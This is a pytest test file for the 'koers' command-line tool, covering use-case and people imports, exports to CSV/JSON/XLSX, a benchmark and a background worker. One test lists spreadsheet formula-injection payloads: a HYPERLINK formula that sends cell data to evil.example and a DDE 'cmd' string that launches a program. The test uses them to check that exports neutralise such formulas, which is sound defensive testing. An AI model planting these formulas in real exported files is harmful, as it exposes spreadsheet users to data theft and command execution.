"""``koers import``, ``koers export`` and ``koers bench`` from the command line, and
``koers worker`` running an import queued from the web pages."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from koers.backlog.models.usecases import UseCase
from koers.cli import main
from koers.core.models import Change
from koers.orgs.models import Membership
from koers.testing.factories import make_usecase
from koers.testing.migrated import migrated_sqlite
from koers.testing.shared_data import FEDERAL, needs_federal


@pytest.fixture
def usecases_csv(tmp_path: Path) -> Path:
    path = tmp_path / "usecases.csv"
    path.write_text(
        "Titel;Probleem;Afdelingen\nChatbot;Slow answers;HR\nSummaries;Long minutes;Ops\n"
    )
    return path


def test_it_imports_use_cases_and_prints_a_summary(org, usecases_csv, capsys):
    assert main(["import", "usecases", "--org", org.slug, str(usecases_csv)]) == 0
    out = capsys.readouterr().out
    assert "2 created, 0 updated" in out
    assert UseCase.objects.filter(organisation=org).count() == 2
    change = Change.objects.filter(organisation=org, action="imported").first()
    assert (change.actor, change.actor_label) == (None, "koers import (CLI)")


def test_it_checks_without_changing_anything_on_a_dry_run(org, usecases_csv, capsys):
    assert main(["import", "usecases", "--org", org.slug, "--dry-run", str(usecases_csv)]) == 0
    assert "dry run" in capsys.readouterr().out
    assert not UseCase.objects.exists()


def test_it_prints_every_problem_of_a_bad_file_and_imports_nothing(org, tmp_path, capsys):
    path = tmp_path / "bad.csv"
    path.write_text("title,stage\nGood,idea\n,idea\nAlso good,someday\n")
    assert main(["import", "usecases", "--org", org.slug, str(path)]) == 1
    err = capsys.readouterr().err
    assert "bad.csv: row 3, column “title”" in err
    assert "bad.csv: row 4, column “stage”" in err
    assert "not imported (2 problems); nothing was changed" in err
    assert not UseCase.objects.exists()


def test_it_shows_the_first_fifty_problems_and_counts_the_rest(org, tmp_path, capsys):
    path = tmp_path / "bad.csv"
    path.write_text("title,stage\n" + "x,never\n" * 60)
    assert main(["import", "usecases", "--org", org.slug, str(path)]) == 1
    err = capsys.readouterr().err
    assert err.count("column “stage”") == 50
    assert "… and 10 more." in err


@needs_federal
def test_it_imports_the_federal_file_and_rejects_a_copy_with_one_bad_row_naming_it(
    org, tmp_path, capsys
):
    assert main(["import", "usecases", "--org", org.slug, str(FEDERAL)]) == 0
    assert "2168 created" in capsys.readouterr().out
    lines = FEDERAL.read_text(encoding="utf-8").splitlines(keepends=True)
    header = lines[0].split(",")
    bad = tmp_path / "one-bad-row.csv"
    # The first data row (row 2) gets a title that is too long.
    row = lines[1].split(",")
    row[header.index("use_case_name")] = "x" * 301
    bad.write_text(lines[0] + ",".join(row) + "".join(lines[2:]), encoding="utf-8")
    before = UseCase.objects.count()
    assert main(["import", "usecases", "--org", org.slug, str(bad)]) == 1
    err = capsys.readouterr().err
    assert "row 2, column “use_case_name”" in err
    assert UseCase.objects.count() == before


def test_it_fails_clearly_for_an_unknown_organisation_or_missing_file(org, tmp_path, capsys):
    assert main(["import", "usecases", "--org", "nope", str(tmp_path / "x.csv")]) == 1
    assert "no organisation with the short name 'nope'" in capsys.readouterr().err
    assert main(["import", "usecases", "--org", org.slug, str(tmp_path / "x.csv")]) == 1
    assert "no such file" in capsys.readouterr().err


def test_it_fails_clearly_for_an_unreadable_file(org, tmp_path, capsys):
    path = tmp_path / "old.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0" + b"\0" * 64)
    assert main(["import", "usecases", "--org", org.slug, str(path)]) == 1
    assert "old Excel file" in capsys.readouterr().err


def test_it_imports_people_and_deactivates_missing_members_when_asked(
    org, member, tmp_path, capsys
):
    path = tmp_path / "hr.csv"
    path.write_text("Naam,E-mail,Afdeling,Rol\nAnn,ann@example.org,HR,lead\n")
    assert main(["import", "people", "--org", org.slug, str(path)]) == 0
    out = capsys.readouterr().out
    assert "1 created" in out
    assert "1 active members are not in the file" in out
    assert Membership.objects.get(user__email="ann@example.org").role == "lead"
    assert main(["import", "people", "--org", org.slug, "--deactivate-missing", str(path)]) == 0
    assert "Deactivated 1 members" in capsys.readouterr().out
    assert not Membership.objects.get(user=member).is_active


def test_it_rejects_a_people_file_with_a_bad_address(org, tmp_path, capsys):
    path = tmp_path / "hr.csv"
    path.write_text("name,email\nAnn,ann@example.org\nBob,bob-at-example\n")
    assert main(["import", "people", "--org", org.slug, str(path)]) == 1
    assert "row 3, column “email”" in capsys.readouterr().err
    assert not Membership.objects.filter(organisation=org).exists()


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_it_exports_to_standard_output(org, fmt, capsysbinary):
    make_usecase(org, title="Chatbot")
    assert main(["export", "usecases", "--org", org.slug, "--format", fmt]) == 0
    out = capsysbinary.readouterr().out
    if fmt == "json":
        assert json.loads(out)[0]["title"] == "Chatbot"
    else:
        assert out.decode("utf-8-sig").splitlines()[1].startswith("UC-1,Chatbot,")


def test_it_exports_xlsx_to_a_file_and_the_file_imports_again(org, other_org, tmp_path, capsys):
    make_usecase(org, title="Chatbot", anonymous=True)
    output = tmp_path / "register.xlsx"
    assert (
        main(["export", "usecases", "--org", org.slug, "--format", "xlsx", "--output", str(output)])
        == 0
    )
    sheet = load_workbook(io.BytesIO(output.read_bytes())).worksheets[0]
    assert sheet["B2"].value == "Chatbot"
    assert main(["import", "usecases", "--org", other_org.slug, str(output)]) == 0
    assert UseCase.objects.get(organisation=other_org).title == "Chatbot"


FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1,1)",
]


def test_it_exports_formula_like_titles_as_text_in_csv_and_xlsx(org, tmp_path, capsys):
    for title in FORMULA_TITLES:
        make_usecase(org, title=title)
    csv_file, xlsx_file = tmp_path / "register.csv", tmp_path / "register.xlsx"
    for fmt, path in (("csv", csv_file), ("xlsx", xlsx_file)):
        command = ["export", "usecases", "--org", org.slug, "--format", fmt, "--output", str(path)]
        assert main(command) == 0
    text = csv_file.read_text(encoding="utf-8-sig")
    titles = [row["title"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert titles == ["'" + title for title in FORMULA_TITLES]
    sheet = load_workbook(io.BytesIO(xlsx_file.read_bytes())).worksheets[0]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(t, "s") for t in FORMULA_TITLES]
    assert main(["import", "usecases", "--org", org.slug, str(csv_file)]) == 0
    assert "0 created, 0 updated, 4 unchanged" in capsys.readouterr().out


def test_it_runs_the_import_benchmark_in_a_throwaway_database_and_ends_with_json(capfd):
    assert main(["bench", "import", "--people", "200", "--baseline-sample", "5"]) == 0
    out = capfd.readouterr().out
    figures = json.loads(out.strip().splitlines()[-1])
    assert figures["people_rows"] == 200
    assert figures["people_seconds"] > 0
    if FEDERAL.exists():
        assert figures["usecases_rows"] == 2168
        assert figures["baseline_usecases_seconds_extrapolated"] > 0
    else:
        assert "Skipping the use-case import" in out


QUEUE_A_LARGE_IMPORT = """
from koers.backlog.tasks import import_usecases
from koers.orgs.importing import upload_create, upload_queue
from koers.orgs.models import Role
from koers.testing.factories import ctx_for, make_member, make_org

org = make_org("Demo")
ctx = ctx_for(make_member(org, Role.LEAD), org)
rows = "".join(f"Idea {n};Work by hand\\n" for n in range(1, 51))
upload = upload_create(
    ctx,
    kind="usecases",
    filename="ideas.csv",
    content=("title;problem\\n" + rows).encode(),
    mapping={"title": "title", "problem": "problem"},
)
upload_queue(ctx, upload=upload, rows=50, options={}, language="en", task=import_usecases)
"""
STATE = """
from koers.backlog.models.usecases import UseCase
from koers.core.models import Upload

print(Upload.objects.get().status, UseCase.objects.count())
"""


def test_the_worker_runs_an_import_queued_from_the_web_pages(tmp_path):
    env = {
        **os.environ,
        "KOERS_DATA_DIR": str(tmp_path),
        "DATABASE_URL": f"sqlite:///{tmp_path / 'worker.sqlite3'}",
        "KOERS_TASKS_BACKEND": "database",
    }

    def koers(*args: str) -> str:
        command = [sys.executable, "-m", "koers.cli", *args]
        done = subprocess.run(command, env=env, capture_output=True, text=True, check=True)
        return done.stdout.strip().splitlines()[-1] if done.stdout.strip() else ""

    migrated_sqlite(tmp_path / "worker.sqlite3")
    koers("manage", "shell", "-c", QUEUE_A_LARGE_IMPORT)
    assert koers("manage", "shell", "-c", STATE) == "queued 0"
    koers("worker", "--batch")
    assert koers("manage", "shell", "-c", STATE) == "done 50"
